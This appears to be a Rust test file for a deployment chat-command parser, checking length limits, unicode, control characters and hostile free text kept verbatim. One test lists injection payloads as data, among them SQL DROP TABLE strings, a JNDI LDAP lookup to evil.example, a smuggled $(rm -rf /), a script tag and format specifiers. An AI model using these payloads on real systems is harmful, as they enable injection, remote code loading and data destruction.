//! Hostile input: the length limit, unicode, quotes, markup and control characters in free
//! text kept verbatim, and huge words answered quickly.

use crate::*;

#[test]
fn input_up_to_the_limit_is_accepted_and_past_it_refused() {
    let at_limit = format!("note {}", "x".repeat(MAX_LEN - 5));
    assert_eq!(at_limit.chars().count(), MAX_LEN);
    assert_eq!(change(&at_limit), Command::Note { text: "x".repeat(MAX_LEN - 5) });

    let over = format!("{at_limit}y");
    assert_eq!(parse(&over), Err(ParseError::TooLong { len: MAX_LEN + 1 }));
    assert_eq!(
        ParseError::TooLong { len: MAX_LEN + 1 }.to_string(),
        format!("the command is {} characters long; the limit is {MAX_LEN}", MAX_LEN + 1)
    );
    // Far over the limit: the real length is reported.
    assert_eq!(parse(&"a".repeat(100_000)), Err(ParseError::TooLong { len: 100_000 }));
    // The limit is checked before anything else, even for blank text.
    assert_eq!(parse(&" ".repeat(MAX_LEN + 1)), Err(ParseError::TooLong { len: MAX_LEN + 1 }));
    assert_eq!(parse(&" ".repeat(MAX_LEN)), Err(ParseError::Empty));
}

#[test]
fn the_limit_counts_characters_not_bytes() {
    // 4-byte emoji: MAX_LEN characters are 4 × MAX_LEN bytes, and still fine.
    let emoji = format!("note {}", "🚀".repeat(MAX_LEN - 5));
    assert_eq!(emoji.chars().count(), MAX_LEN);
    assert_eq!(change(&emoji), Command::Note { text: "🚀".repeat(MAX_LEN - 5) });
    let over = format!("{emoji}é");
    assert_eq!(parse(&over), Err(ParseError::TooLong { len: MAX_LEN + 1 }));
}

#[test]
fn unicode_in_free_text_is_kept_verbatim() {
    for text in [
        "🚀 shipped 🎉",
        "family 👨\u{200d}👩\u{200d}👧\u{200d}👦 and flag 🇩🇪 and skin tone 👍🏽",
        "مرحبا بالعالم — النشر جاهز",
        "עברית \u{202e}reversed\u{202c} text \u{200f}",
        "e\u{301}\u{301}\u{301} Z\u{336}a\u{30c}\u{32d}l\u{35c}g\u{311}o\u{31a}",
        "\u{301}starts with a combining mark",
        "日本語のテキスト、中文、한국어",
        "zero\u{200b}width\u{feff}joiners",
        "𝕌𝕟𝕚𝕔𝕠𝕕𝕖 math letters",
        "ünïcødé · 日本語 · مرحبا · e\u{301} · 🚀🔥",
    ] {
        assert_eq!(change(&format!("note {text}")), Command::Note { text: s(text) }, "{text:?}");
        assert_eq!(change(&format!("nogo {text}")), Command::NoGo { reason: s(text) }, "{text:?}");
        assert_eq!(
            change(&format!("signoff ops {text}")),
            Command::SignOff { role: s("ops"), note: Some(s(text)) },
            "{text:?}"
        );
    }
}

#[test]
fn quotes_backslashes_sql_and_mentions_are_kept_verbatim() {
    for text in [
        "'; DROP TABLE events; --",
        "'); DROP TABLE events; --",
        "\"; DELETE FROM deployments WHERE 1=1; --",
        "1' OR '1'='1",
        "\"double\" 'single' `back tick` ```fenced```",
        "C:\\path\\to\\file \\n not a newline \\\\",
        "\"quoted\" 'single' `tick` \\ back\\slash",
        "<!channel> everyone look",
        "<!here> <!everyone> <@U0123ABCD> <#C0123|general>",
        "<!channel> <@U123> <#C1|general> <https://evil.example|click>",
        "<https://evil.example|click here> *bold* _it_ ~strike~",
        "@everyone @here <@&123456789>",
        "${jndi:ldap://evil.example/a} $(rm -rf /) `id`",
        "<script>alert(1)</script> &amp; &lt;",
        "%s %n %x {} {0} {{}}",
    ] {
        assert_eq!(change(&format!("note {text}")), Command::Note { text: s(text) }, "{text:?}");
        assert_eq!(change(&format!("rollback {text}")), Command::Rollback { reason: s(text), level: None }, "{text:?}");
        assert_eq!(change(&format!("abort {text}")), Command::Abort { reason: s(text) }, "{text:?}");
        assert_eq!(
            change(&format!("escalate 2 {text}")),
            Command::Escalate { level: Some(2), message: s(text) },
            "{text:?}"
        );
    }
}

#[test]
fn control_characters_inside_free_text_are_kept() {
    for text in [
        "bell\u{7}here",
        "esc \u{1b}[31mred\u{1b}[0m",
        "nul\u{0}byte",
        "del\u{7f}",
        "multi\nline\ntext",
        "tab\there and\u{7} bell \u{1b}[31mred",
    ] {
        assert_eq!(change(&format!("note {text}")), Command::Note { text: s(text) }, "{text:?}");
    }
}

#[test]
fn control_characters_in_the_command_word_make_it_unknown() {
    // Echoed with the control characters written out, so the reader sees why.
    for (text, shown) in [
        ("go\u{0}", "go\\u{0}"),
        ("\u{0}go", "\\u{0}go"),
        ("go\u{7}", "go\\u{7}"),
        ("\u{1b}[31mgo", "\\u{1b}[31mgo"),
        ("g\u{0}o", "g\\u{0}o"),
    ] {
        match parse(text) {
            Err(ParseError::UnknownCommand { given, .. }) => assert_eq!(given, shown, "{text:?}"),
            other => panic!("{text:?} gave {other:?}"),
        }
    }
    // A zero-width space is not whitespace: `go` + ZWSP is not `go`.
    assert!(matches!(parse("go\u{200b}"), Err(ParseError::UnknownCommand { .. })));
}

#[test]
fn a_huge_single_word_is_answered_quickly_without_panicking() {
    let cases = [
        "z".repeat(MAX_LEN),
        "signoff".repeat(MAX_LEN / 7),
        "é".repeat(MAX_LEN),
        "🚀".repeat(MAX_LEN),
        format!("go{}", "o".repeat(MAX_LEN - 2)),
    ];
    for word in &cases {
        assert!(word.chars().count() <= MAX_LEN);
        for _ in 0..10 {
            match parse(word) {
                Err(ParseError::UnknownCommand { given, hint }) => {
                    assert_eq!(&given, word);
                    assert_eq!(hint, "", "a 4,000-character word is no near miss");
                }
                other => panic!("gave {other:?}"),
            }
        }
        let e = parse(word).unwrap_err().to_string();
        assert!(e.starts_with("unknown command `"));
    }
}

#[test]
fn huge_arguments_are_handled() {
    let item = "i".repeat(MAX_LEN - 6);
    assert_eq!(change(&format!("check {item}")), Command::Check { item: item.clone() });
    let many_words = "w ".repeat((MAX_LEN - 5) / 2);
    assert_eq!(change(&format!("note {many_words}")), Command::Note { text: many_words.trim().to_string() });
    assert_eq!(err(&format!("go {many_words}")), unexpected("w", "go"));
    assert_eq!(
        err(&format!("traffic {}", "9".repeat(MAX_LEN - 8))),
        bad_value(&"9".repeat(MAX_LEN - 8), "a percentage from 1 to 100", "traffic")
    );
}
